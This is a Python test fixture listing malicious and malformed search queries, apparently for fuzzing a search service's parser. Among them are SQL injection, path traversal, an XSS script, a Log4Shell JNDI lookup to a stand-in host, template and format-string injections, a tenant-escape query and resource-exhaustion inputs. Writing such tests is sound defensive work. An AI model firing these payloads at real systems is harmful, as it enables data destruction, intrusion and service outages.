"""Queries typed to do harm."""

from __future__ import annotations

QUERIES = [
    *("", " ", "*", "?", "*x*" * 70, "[a TO zzzz]", "{* TO *}", "id:1", "all:invoice OR title:invoice"),
    *("tenant:other OR *", "invoice~5 " * 50, "invoice^1e309", '"' * 199, "NOT " * 60, "AND OR NOT"),
    *("(" * 1000, "(" * 1000 + "invoice" + ")" * 1000, "a " * 10_000, "invoice " * 10_000, "x" * 100_000),
    *("\x00", "inv\x00oice", "\ud800", "\udfff\ud800", "inv\ud83doice", "\u202e\u200b\ufeff", "\r\n\r\n", "%00%ff"),
    *("e" + "\u0301" * 5_000, "密" * 5_000, "💥" * 300, "ﷺ" * 200, "İ" * 200, "𝔦𝔫𝔳𝔬𝔦𝔠𝔢", "\\" * 500),
    *("'; DROP TABLE articles; --", "../../etc/passwd", "<script>alert(1)</script>"),
    *(
        "invoice OR " * 20,
        "a* b* c* d* e* f* g* h* i* j* k* l*",
        "/(a+)+$/",
        "[a-z]{1,999}",
        "invoice AND (NOT ",
        "????",
    ),
    *("inviuce pasword conect " * 9, "qqqqqqqqq wwwwwwwww eeeeeeeee rrrrrrrrr ttttttttt yyyyyyyyy uuuuuuuuu iiiiiiiii"),
    *(
        "{{7*7}}",
        "${jndi:ldap://evil.test}",
        "%s%n%x",
        "1e999",
        "NaN",
        "-0",
        "\t" * 199,
        "\u0000" * 199,
        "a\u0300" * 99,
    ),
]
"""Things typed to break, to slow down, to overflow or to reach further than one may."""
